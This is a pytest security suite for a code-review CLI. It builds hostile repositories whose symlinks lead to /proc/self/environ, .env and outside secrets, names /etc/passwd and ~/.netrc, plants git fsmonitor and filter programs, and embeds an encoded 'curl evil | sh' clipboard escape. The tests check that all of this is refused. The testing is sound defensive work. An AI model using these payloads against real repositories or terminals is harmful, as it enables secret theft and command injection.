"""A cloned repository is trusted with nothing (issue 11): hostile repositories built in tmp_path, the real CLI, the
loopback model server, real git.

Each test reproduces one attack from the issue. The canaries below sit in files OUTSIDE the repository (a fake
secrets file next to it, an environment variable that /proc/self/environ shows, a .env inside it); every test checks
that no canary reaches a request the model server recorded, the result cache on disk, or the terminal, and that no
file outside the repository was written.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import time
from pathlib import Path

import pytest

from tests.helpers import TEST_API_KEY, GitRepo

OUTSIDE_CANARY = "OUTSIDE-CANARY-7f3a9c"  # in tmp_path/outside/*, never inside the repository
ENV_CANARY = "ENVIRON-CANARY-51d2e8"  # in the process environment, readable through /proc/self/environ
DOTENV_CANARY = "DOTENV-CANARY-c0ffee"  # in the repository's .env, a sensitive file
CANARIES = (OUTSIDE_CANARY, ENV_CANARY, DOTENV_CANARY)
AGENT_FILE = """---
name: {name}
description: {description}
---
{persona}
"""


# --- the hostile repository -----------------------------------------------------------------------------------------


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder next to the repository holding files the repository must never make reviewbot read or write."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secrets.txt").write_text(f"export TOKEN={OUTSIDE_CANARY}\n", encoding="utf-8")
    (folder / "agent.md").write_text(AGENT_FILE.format(name="outsider", description="x",
                                                       persona=f"Persona {OUTSIDE_CANARY}"), encoding="utf-8")
    (folder / "bashrc").write_text("# the user's own shell setup\n", encoding="utf-8")
    (folder / "rules.md").write_text(f"Rules {OUTSIDE_CANARY}\n", encoding="utf-8")
    (folder / "rules.instructions.md").write_text(f"---\napplyTo: '**'\n---\nRules {OUTSIDE_CANARY}\n",
                                                  encoding="utf-8")
    return folder


@pytest.fixture
def canary_env(monkeypatch):
    monkeypatch.setenv("SOME_TOKEN_OF_THE_USER", ENV_CANARY)


def _outside_state(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


def _stage_change(repo: GitRepo) -> None:
    repo.write("app/service.py", "def handler(request):\n    return request.body\n")
    repo.add("app/service.py")


def hostile(repo: GitRepo, outside: Path) -> GitRepo:
    """Every kind of file a repository provides, each a symlink out of it (or to its .env)."""
    repo.write(".env", f"API_TOKEN={DOTENV_CANARY}\n")
    links = {
        "AGENTS.md": str(outside / "secrets.txt"),  # absolute link out
        "CLAUDE.md": "/proc/self/environ",
        ".github/copilot-instructions.md": "../.env",  # inside, but a sensitive file
        "app/AGENTS.md": "../../outside/rules.md",  # nested standards, relative link out
        ".claude/agents/evil.md": "../../../outside/agent.md",
        ".github/instructions/all.instructions.md": str(outside / "rules.instructions.md"),
        ".cursor/rules/all.mdc": str(outside / "rules.instructions.md"),
        "docs": str(outside),  # a symlinked folder
    }
    for path, target in links.items():
        repo.symlink(path, target)
    repo.git("add", "-A")
    repo.commit("hostile links")
    _stage_change(repo)
    return repo


def assert_nothing_leaked(model_server, isolated_env, *texts: str) -> None:
    sent = json.dumps(model_server.requests, ensure_ascii=False)
    on_disk = b"".join(p.read_bytes() for p in isolated_env.cache.rglob("*") if p.is_file())
    for canary in CANARIES:
        assert canary not in sent, f"{canary} reached the model server"
        assert canary.encode() not in on_disk, f"{canary} reached the cache on disk"
        for text in texts:
            assert canary not in text


def error_lines(stderr: str) -> list[str]:
    return [ln for ln in stderr.splitlines() if ln.startswith("reviewbot: error:")]


# --- 1. reads on behalf of a repository ----------------------------------------------------------------------------


def test_hook_warns_for_every_link_out_and_still_reviews(repo, outside, canary_env, model_server, run_cli,
                                                         isolated_env):
    hostile(repo, outside)
    before = _outside_state(outside)
    result = run_cli("hook")
    assert result.exit_code == 0, result.stderr
    assert model_server.request_count >= 1  # the change itself was reviewed
    warnings = "\n".join(ln for ln in result.stderr.splitlines() if ln.startswith("reviewbot: warning:"))
    for name in ("'AGENTS.md'", "'CLAUDE.md'", "'.github/copilot-instructions.md'", "'app/AGENTS.md'",
                 "'.claude/agents/evil.md'", "'.github/instructions/all.instructions.md'", "'.cursor/rules/all.mdc'"):
        assert name in warnings, (name, result.stderr)
    assert "leads outside the repository" in warnings and "an environment file" in warnings
    assert "Traceback" not in result.stderr
    assert_nothing_leaked(model_server, isolated_env, result.stdout, result.stderr)
    assert _outside_state(outside) == before


def test_diff_refuses_a_link_out_with_exit_2_and_sends_nothing(repo, outside, canary_env, model_server, run_cli,
                                                               isolated_env):
    hostile(repo, outside)
    result = run_cli("diff", "--staged")
    assert result.exit_code == 2, result.stderr
    (line,) = error_lines(result.stderr)
    assert "refused" in line and ("AGENTS.md" in line or "CLAUDE.md" in line or "evil.md" in line), line
    assert model_server.request_count == 0
    assert_nothing_leaked(model_server, isolated_env, result.stdout, result.stderr)


@pytest.mark.parametrize("name", [".reviewbot.toml", "pyproject.toml"])
def test_a_config_file_linked_out_is_not_read(repo, outside, model_server, run_cli, isolated_env, name):
    table = "[tool.reviewbot.path_instructions]" if name == "pyproject.toml" else "[path_instructions]"
    (outside / "config.toml").write_text(f'{table}\n"**" = "{OUTSIDE_CANARY}"\n', encoding="utf-8")
    repo.symlink(name, str(outside / "config.toml"))
    _stage_change(repo)
    hook = run_cli("hook")
    assert hook.exit_code == 0 and f"the config file '{name}' leads outside the repository" in hook.stderr
    assert model_server.request_count == 1
    strict = run_cli("diff", "--staged")
    assert strict.exit_code == 2 and name in error_lines(strict.stderr)[0]
    assert_nothing_leaked(model_server, isolated_env, hook.stderr, strict.stderr)


def test_a_link_inside_the_repository_to_an_ordinary_file_is_followed(repo, model_server, run_cli):
    repo.write("docs/RULES.md", "Always close files you open.\n")
    repo.symlink("AGENTS.md", "docs/RULES.md")
    repo.git("add", "-A")
    repo.commit("rules")
    _stage_change(repo)
    result = run_cli("diff", "--staged")
    assert result.exit_code == 0, result.stderr
    assert "Always close files you open." in model_server.prompt_text(0)


@pytest.mark.parametrize("standards", [
    '["/etc/passwd"]', '["../../outside/secrets.txt"]', '["../outside/secrets.txt"]', '["~/.netrc"]',
    '["docs/secrets.txt"]', '[".env"]', '["/proc/self/environ"]', '[".git/config"]',
])
def test_standards_setting_names_only_files_inside(repo, outside, canary_env, model_server, run_cli, isolated_env,
                                                   standards):
    repo.write(".env", f"API_TOKEN={DOTENV_CANARY}\n")
    repo.symlink("docs", str(outside))
    repo.write(".reviewbot.toml", f"standards = {standards}\n")
    repo.git("add", "-A")
    repo.commit("config")
    _stage_change(repo)
    strict = run_cli("diff", "--staged")
    assert strict.exit_code == 2, strict.stderr
    (line,) = error_lines(strict.stderr)
    assert "standards" in line and "refused" in line, line
    assert model_server.request_count == 0
    hook = run_cli("hook")
    assert hook.exit_code == 0, hook.stderr
    assert "reviewbot: warning:" in hook.stderr and model_server.request_count == 1
    assert_nothing_leaked(model_server, isolated_env, strict.stderr, hook.stderr, hook.stdout)


def test_a_fifo_never_blocks_the_run(repo, model_server, run_reviewbot):
    os.mkfifo(repo.path / "pipe.md")
    repo.write(".reviewbot.toml", 'standards = ["pipe.md"]\n')
    _stage_change(repo)
    started = time.monotonic()
    result = run_reviewbot("hook", timeout=30)
    assert time.monotonic() - started < 25
    assert result.returncode == 0, result.stderr
    assert "'pipe.md' is not a regular file" in result.stderr
    strict = run_reviewbot("diff", "--staged", timeout=30)
    assert strict.returncode == 2 and "pipe.md" in strict.stderr and "Traceback" not in strict.stderr


def test_agent_path_from_the_repository_config_stays_inside(repo, outside, model_server, run_cli, isolated_env):
    for ref in (str(outside / "agent.md"), "../outside/agent.md"):
        repo.write(".reviewbot.toml", f"agent = {json.dumps(ref)}\n")
        _stage_change(repo)
        result = run_cli("diff", "--staged")
        assert result.exit_code == 2, result.stderr
        assert "agent" in error_lines(result.stderr)[0]
    assert model_server.request_count == 0
    assert_nothing_leaked(model_server, isolated_env)


def test_rules_read_in_ci_from_a_revision_refuse_symlinks(repo, outside, canary_env, model_server, run_cli,
                                                           isolated_env):
    hostile(repo, outside)  # the links are committed: the rules revision holds them as symlink blobs
    repo.commit("change", all=False)
    result = run_cli("ci", "--base", "HEAD~1")
    assert result.exit_code == 2, result.stderr
    assert "symbolic link" in error_lines(result.stderr)[0]
    assert_nothing_leaked(model_server, isolated_env, result.stderr)


# --- 2. redaction of everything that leaves --------------------------------------------------------------------------


def _token() -> str:
    return "ghp_" + "Zq8" * 12  # assembled here so the file holds no credential-shaped literal


def test_agent_personas_and_path_instructions_are_redacted(repo, model_server, run_cli):
    token = _token()
    repo.write(".claude/agents/senior-backend-engineer.md",
               AGENT_FILE.format(name="senior-backend-engineer", description="d",
                                 persona=f"Use the deploy token {token} when asked."))
    repo.write(".reviewbot.toml", f'[path_instructions]\n"app/**" = "Service key is {token}"\n')
    _stage_change(repo)
    result = run_cli("diff", "--staged")
    assert result.exit_code == 0, result.stderr
    sent = json.dumps(model_server.requests)
    assert token not in sent
    assert "REDACTED" in sent and "Use the deploy token" in sent and "Service key is" in sent


# --- 3. writes --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("setting", ["absolute", "linked-folder", "linked-file", "dotdot"])
def test_baseline_never_writes_outside_the_repository(repo, outside, model_server, run_cli, setting):
    if setting == "absolute":
        value = str(outside / "bashrc")
    elif setting == "linked-folder":
        repo.symlink("state", str(outside))
        value = "state/bashrc"
    elif setting == "linked-file":
        repo.symlink("baseline.json", str(outside / "bashrc"))
        value = "baseline.json"
    else:
        value = "../outside/bashrc"
    repo.write(".reviewbot.toml", f"baseline = {json.dumps(value)}\n")
    _stage_change(repo)
    before = _outside_state(outside)
    result = run_cli("baseline", "--staged")
    assert result.exit_code == 2, result.stderr
    (line,) = error_lines(result.stderr)
    assert "baseline" in line, line
    assert _outside_state(outside) == before


def test_baseline_replaces_a_hard_link_instead_of_writing_through_it(repo, outside, model_server, run_cli):
    os.link(outside / "bashrc", repo.path / ".reviewbot-baseline.json")
    _stage_change(repo)
    before = _outside_state(outside)
    result = run_cli("baseline", "--staged")
    assert result.exit_code == 0, result.stderr
    assert _outside_state(outside) == before
    assert json.loads((repo.path / ".reviewbot-baseline.json").read_text())["version"] == 1
    assert not [p for p in repo.path.iterdir() if p.name.endswith(".tmp")]


def test_the_users_own_absolute_baseline_is_still_honoured(repo, tmp_path, model_server, run_cli, isolated_env):
    target = tmp_path / "mine" / "baseline.json"
    user_config = isolated_env.config / "reviewbot" / "config.toml"
    user_config.parent.mkdir(parents=True)
    user_config.write_text(f"baseline = {json.dumps(str(target))}\n", encoding="utf-8")
    _stage_change(repo)
    assert run_cli("baseline", "--staged").exit_code == 0
    assert json.loads(target.read_text())["version"] == 1


@pytest.mark.parametrize("name", [".reviewbot.toml", ".pre-commit-config.yaml"])
@pytest.mark.parametrize("dangling", [False, True])
def test_init_never_writes_through_a_committed_symlink(repo, outside, run_cli, name, dangling):
    victim = outside / ("not-there-yet" if dangling else "bashrc")
    repo.symlink(name, str(victim))
    before = _outside_state(outside)
    result = run_cli("init")
    assert result.exit_code == 2, result.stderr
    (line,) = error_lines(result.stderr)
    assert name in line and "symbolic link" in line
    assert _outside_state(outside) == before and not (outside / "not-there-yet").exists()


def test_init_writes_atomically_inside(repo, run_cli):
    result = run_cli("init")
    assert result.exit_code == 0, result.stderr
    assert (repo.path / ".reviewbot.toml").is_file() and (repo.path / ".pre-commit-config.yaml").is_file()
    assert not [p for p in repo.path.iterdir() if p.name.endswith(".tmp")]


def test_the_cache_is_private_and_existing_modes_are_fixed(repo, model_server, run_cli, isolated_env):
    folder = isolated_env.cache / "reviewbot"
    folder.mkdir(mode=0o755)
    os.chmod(folder, 0o755)
    (folder / "cache.sqlite3.corrupt").write_bytes(b"old")
    os.chmod(folder / "cache.sqlite3.corrupt", 0o644)
    _stage_change(repo)
    assert run_cli("diff", "--staged").exit_code == 0
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    files = [p for p in folder.iterdir() if p.is_file()]
    assert files and all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in files), \
        {p.name: oct(p.stat().st_mode) for p in files}


# --- 4. where data and money go --------------------------------------------------------------------------------------


def test_repository_cannot_multiply_requests(repo, model_server, run_cli):
    repo.write(".reviewbot.toml", "samples = 300\nconcurrency = 300\nretries = 300\n")
    _stage_change(repo)
    result = run_cli("diff", "--staged")
    assert result.exit_code == 0, result.stderr
    assert model_server.request_count == 3  # capped at REPO_CAPS["samples"]
    assert "above what a repository may ask for" in result.stderr


def test_a_plan_over_the_request_budget_stops_before_sending(repo, model_server, run_cli):
    _stage_change(repo)
    result = run_cli("diff", "--staged", "--samples", "3", env={"REVIEWBOT_MAX_REQUESTS": "2"})
    assert result.exit_code == 2
    (line,) = error_lines(result.stderr)
    assert "3 requests" in line and "max_requests = 2" in line
    assert model_server.request_count == 0
    hook = run_cli("hook", "--samples", "3", env={"REVIEWBOT_MAX_REQUESTS": "2"})
    assert hook.exit_code == 2 and model_server.request_count == 0


def test_repository_model_does_not_override_the_users(repo, model_server, run_cli, monkeypatch, isolated_env):
    # The user's model is in their own config file (before: the repository's file won over it).
    monkeypatch.delenv("REVIEWBOT_MODEL")
    user_config = isolated_env.config / "reviewbot" / "config.toml"
    user_config.parent.mkdir(parents=True)
    user_config.write_text('model = "test-model"\n', encoding="utf-8")
    repo.write(".reviewbot.toml", 'model = "very-expensive-model"\n')
    _stage_change(repo)
    assert run_cli("diff", "--staged").exit_code == 0
    assert model_server.requests[0]["model"] == "test-model"


def test_key_is_not_sent_over_plain_http_to_a_host_the_user_did_not_trust(repo, model_server, run_cli, monkeypatch):
    # 127.0.0.2 is loopback: allowed. The plain-HTTP rule is proven in tests/config/test_endpoint_trust.py; here the
    # end-to-end path shows the repository cannot name OpenAI's host over plain HTTP.
    monkeypatch.delenv("OPENAI_BASE_URL")
    repo.write(".reviewbot.toml", 'base_url = "http://api.openai.com/v1"\n')
    _stage_change(repo)
    result = run_cli("diff", "--staged")
    assert result.exit_code == 2
    assert "plain HTTP" in error_lines(result.stderr)[0] and TEST_API_KEY not in result.stderr
    assert model_server.request_count == 0


# --- 6. lesser items --------------------------------------------------------------------------------------------

ESC = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J"


def test_agents_listing_strips_terminal_escapes(repo, run_cli):
    # YAML double-quoted strings carry ESC (\\e), BEL (\\a) and CR (\\r) into the name and description.
    yaml_esc = '\\e]52;c;Y3VybA==\\a\\e[2J'
    repo.write(".claude/agents/x.md", f'---\nname: "evil{yaml_esc}"\ndescription: "desc{yaml_esc}\\rOVER"\n---\np\n')
    result = run_cli("agents")
    assert result.exit_code == 0
    assert "evil" in result.stdout and "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "\r" not in result.stdout


def test_config_and_warnings_strip_terminal_escapes(repo, run_cli):
    repo.write(".reviewbot.toml", json.dumps(f"knob{ESC}") + " = 1\n")
    result = run_cli("config")
    assert result.exit_code == 0
    assert "unknown setting" in result.stderr and "\x1b" not in result.stderr + result.stdout


@pytest.mark.parametrize("toml, needle", [
    ('include = ["[z-a]"]', "include"),
    ('exclude = ["src/[z-a]/**"]', "exclude"),
    ('[path_instructions]\n"[z-a]" = "x"', "path_instructions"),
    ("[tool]\nreviewbot = 5", "[tool]"),
    ('base_url = "https://x:+443/v1"', "base_url"),
])
@pytest.mark.parametrize("command", ["diff", "hook"])
def test_bad_config_values_are_one_line_exit_2(repo, model_server, run_reviewbot, toml, needle, command):
    repo.write(".reviewbot.toml", toml + "\n")
    _stage_change(repo)
    result = run_reviewbot(command, *(["--staged"] if command == "diff" else []))
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    (line,) = [ln for ln in result.stderr.splitlines() if ln.strip()]
    assert line.startswith("reviewbot: error:") and needle in line


def test_pyproject_tool_reviewbot_not_a_table(repo, model_server, run_reviewbot):
    repo.write("pyproject.toml", "[tool]\nreviewbot = 5\n")
    _stage_change(repo)
    result = run_reviewbot("diff", "--staged")
    assert result.returncode == 2 and "pyproject.toml" in result.stderr and "Traceback" not in result.stderr


def test_a_bad_glob_in_a_rules_file_skips_that_file_with_a_warning(repo, model_server, run_cli):
    repo.write(".github/instructions/x.instructions.md", "---\napplyTo: '[z-a]'\n---\nRULES-X\n")
    _stage_change(repo)
    result = run_cli("hook")
    assert result.exit_code == 0, result.stderr
    assert "[z-a]" in result.stderr and "RULES-X" not in model_server.prompt_text(0)


def test_globs_that_would_backtrack_for_minutes_are_refused(repo, model_server, run_reviewbot):
    # Before: each of these took from seconds to minutes per changed file (regex backtracking).
    repo.write(".github/instructions/slow.instructions.md",
               "---\napplyTo: '" + "/".join(["**"] * 8) + "/*z'\n---\nSLOW-RULES\n")
    repo.git("add", "-A")
    repo.commit("rules")
    deep = "/".join(["a" * 30] * 25)
    repo.write(f"{deep}/{'a' * 200}.py", "x = 1\n")
    repo.git("add", "-A")
    started = time.monotonic()
    hook = run_reviewbot("hook", timeout=30)
    assert hook.returncode == 0, hook.stderr
    assert "slow.instructions.md" in hook.stderr and "'**' parts" in hook.stderr
    repo.write(".reviewbot.toml", 'include = ["*a*a*a*a*a*a*a*b"]\n')
    strict = run_reviewbot("diff", "--staged", timeout=30)
    assert strict.returncode == 2 and "include" in strict.stderr and "Traceback" not in strict.stderr
    assert time.monotonic() - started < 25
    assert all("SLOW-RULES" not in json.dumps(r) for r in model_server.requests)


DEEP = 50_000


@pytest.mark.parametrize("case", ["config", "agent", "rules", "baseline", "init"])
def test_files_nested_deep_enough_to_exhaust_a_parser_are_one_line_errors(repo, model_server, run_reviewbot, case):
    # Before: tomllib, PyYAML and json raised RecursionError, a traceback and exit 1.
    nested = "[" * DEEP + "]" * DEEP
    command = ("diff", "--staged")
    if case == "config":
        repo.write(".reviewbot.toml", f"include = {nested}\n")
    elif case == "agent":
        repo.write(".claude/agents/deep.md", f"---\nname: deep\nx: {nested}\n---\npersona\n")
        command = ("agents",)
    elif case == "rules":
        repo.write(".github/instructions/d.instructions.md", f"---\napplyTo: {nested}\n---\nbody\n")
        command = ("hook",)
    elif case == "baseline":
        repo.write(".reviewbot-baseline.json", nested)
    else:
        repo.write(".pre-commit-config.yaml", f"repos: {nested}\n")
        command = ("init",)
    _stage_change(repo)
    result = run_reviewbot(*command)
    assert "Traceback" not in result.stderr and "RecursionError" not in result.stderr, result.stderr[-500:]
    assert result.returncode in ((0,) if command in (("agents",), ("hook",)) else (2,)), result.stderr
    assert "too deeply" in result.stderr


@pytest.mark.parametrize("attributes", ["*.py -diff", "* binary", "app/** -text -diff"])
def test_gitattributes_cannot_hide_a_change_as_binary(repo, model_server, run_cli, attributes):
    # Before: git printed "Binary files differ" for the change, reviewbot skipped it as binary, exit 0 unreviewed.
    repo.write(".gitattributes", attributes + "\n")
    repo.commit_files({".gitattributes": attributes + "\n"}, "attributes")
    _stage_change(repo)
    repo.write("app/logo.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))
    repo.add("app/logo.png")
    result = run_cli("diff", "--staged")
    assert result.exit_code == 0, result.stderr
    prompt = model_server.prompt_text(0)
    assert "## File: app/service.py" in prompt and "return request.body" in prompt
    assert "logo.png" not in prompt and "1 skipped" in result.stderr  # real binary content is still skipped


def test_a_file_named_like_pathspec_magic_cannot_hide_the_change_from_the_hook(repo, model_server, run_cli):
    # pre-commit passes staged file names to the hook; ":!*" as a pathspec excluded every file from the review.
    _stage_change(repo)
    repo.write(":!*", "decoy\n")
    repo.git("add", "--", ":(literal):!*")
    result = run_cli("hook", "app/service.py", ":!*")
    assert result.exit_code == 0, result.stderr
    assert model_server.request_count == 1 and "## File: app/service.py" in model_server.prompt_text(0)


def test_a_path_holding_space_b_slash_parses(repo, model_server, run_cli):
    repo.write("a b/old b/x.py", "x = 1\n")
    repo.write("x b/c.py", "y = 1\n")
    repo.write("gone b/z.py", "z = 1\n")
    repo.write("pure b/r.py", "r = 1\n" * 20)
    repo.git("add", "-A")
    repo.commit("spaces")
    repo.rename("a b/old b/x.py", "a b/new b/x.py")
    repo.write("a b/new b/x.py", "x = 1\nx = 2\n")
    repo.write("x b/c.py", "y = 1\ny = 2\n")
    repo.delete("gone b/z.py")
    repo.rename("pure b/r.py", "pure b/s b.py")
    repo.write("new b/n.py", "n = 1\n")
    repo.git("add", "-A")
    result = run_cli("diff", "--staged", "--dry-run")
    assert result.exit_code == 0, result.stderr
    for header in ("## File: a b/new b/x.py (renamed from a b/old b/x.py)", "## File: x b/c.py",
                   "## File: new b/n.py (new file)"):
        assert header in result.stdout
    assert "# skipped gone b/z.py: deleted" in result.stdout
    assert "# skipped pure b/s b.py: renamed, content unchanged" in result.stdout


def test_line_breaking_characters_in_code_are_escaped_and_numbering_holds(repo, model_server, run_cli):
    lines = ["a = 1", "b = 'x\ry'", "c = 'x\x0by'", "d = 'x\x0cy'", "e = 'x\u2028y'", "f = 'x\u2029y'",
             "g = 'x\x85y'", "h = 'x\x1b[2Jy'", "i = 9"]
    repo.write("app/odd.py", "\n".join(lines) + "\n")
    repo.add("app/odd.py")
    result = run_cli("diff", "--staged")
    assert result.exit_code == 0, result.stderr
    prompt = model_server.prompt_text(0)
    diff_part = prompt.split("## File: app/odd.py", 1)[1]
    for raw in ("\r", "\x0b", "\x0c", "\u2028", "\u2029", "\x85", "\x1b"):
        assert raw not in diff_part
    assert "2 + b = 'x\\ry'" in diff_part and "5 + e = 'x\\u2028y'" in diff_part and "9 + i = 9" in diff_part
    dry = run_cli("diff", "--staged", "--dry-run")
    assert all(ch not in dry.stdout for ch in ("\r", "\x0b", "\x0c", "\x1b", "\u2028"))


def _fsmonitor_repo(repo: GitRepo, tmp_path: Path) -> Path:
    marker = tmp_path / "PROGRAM_RAN"
    script = tmp_path / "fsmonitor.sh"
    script.write_text(f"#!/bin/sh\necho ran >> '{marker}'\ncat\n", encoding="utf-8")
    script.chmod(0o755)
    repo.write(".gitattributes", "*.py filter=evil\n")
    repo.git("add", ".gitattributes")
    repo.commit("attributes")
    repo.git("config", "core.fsmonitor", str(script))
    repo.git("config", "filter.evil.clean", str(script))
    repo.git("config", "filter.evil.required", "true")
    return marker


def test_git_config_programs_never_run(repo, tmp_path, model_server, run_reviewbot):
    marker = _fsmonitor_repo(repo, tmp_path)
    repo.write("app/service.py", "x = 1\n")
    subprocess.run(["git", "status", "--short"], cwd=repo.path, capture_output=True, check=False)
    assert marker.exists(), "control: plain git runs the repository's programs"
    marker.unlink()
    repo.git("-c", "core.fsmonitor=false", "-c", "filter.evil.clean=", "-c", "filter.evil.required=false",
             "add", "app/service.py")
    repo.write("app/other.py", "y = 2\n")  # a work-tree change: `diff` runs clean filters on it
    for args in (("hook",), ("diff",), ("diff", "--staged"), ("agents",), ("config",), ("diff", "--dry-run")):
        result = run_reviewbot(*args)
        assert result.returncode in (0, 1), (args, result.stderr)
        assert not marker.exists(), f"reviewbot {' '.join(args)} ran a program from .git/config"


# --- the attack pass: everything at once, each command as a subprocess ----------------------------------------------


def test_the_most_hostile_repository_through_every_command(repo, outside, tmp_path, canary_env, model_server,
                                                           run_reviewbot, isolated_env):
    hostile(repo, outside)
    marker = _fsmonitor_repo(repo, tmp_path)
    os.mkfifo(repo.path / "pipe.md")
    repo.write(".claude/agents/loud.md", AGENT_FILE.format(name=f"loud{ESC}", description=ESC, persona="p"))
    repo.write(".reviewbot.toml", "\n".join([
        'standards = ["/etc/passwd", "../../x", "pipe.md", "docs/secrets.txt"]',
        f'baseline = {json.dumps(str(outside / "bashrc"))}',
        'samples = 300', 'concurrency = 300', 'max_answer_tokens = 10000000', 'retries = 300',
        'base_url = "http://api.openai.com/v1"', 'model = "very-expensive-model"',
        json.dumps(f"odd{ESC}") + " = 1", 'include = ["**"]',
    ]) + "\n")
    repo.write(f"app/we{ESC}ird b/x.py", "line = 'a\rb\u2028c'\n")
    repo.git("-c", "core.fsmonitor=false", "-c", "filter.evil.clean=", "-c", "filter.evil.required=false",
             "add", "-A", "--", "app")
    before = _outside_state(outside)
    outputs = []
    for args in (("hook",), ("diff", "--staged"), ("diff", "--staged", "--dry-run"), ("baseline", "--staged"),
                 ("agents",), ("config",), ("init",)):
        started = time.monotonic()
        result = run_reviewbot(*args, timeout=60)
        assert time.monotonic() - started < 45, args
        assert "Traceback" not in result.stderr, (args, result.stderr)
        assert result.returncode in (0, 1, 2), (args, result.returncode, result.stderr)
        assert "\x1b" not in result.stdout + result.stderr and "\x07" not in result.stdout + result.stderr, args
        outputs += [result.stdout, result.stderr]
        if args[0] in ("diff", "baseline") and "--dry-run" not in args:
            assert result.returncode == 2, (args, result.stderr)
    assert not marker.exists()
    assert _outside_state(outside) == before
    assert_nothing_leaked(model_server, isolated_env, *outputs)
    assert all(r["model"] == "test-model" for r in model_server.requests)
    assert model_server.request_count <= 3  # the hook's review, samples capped
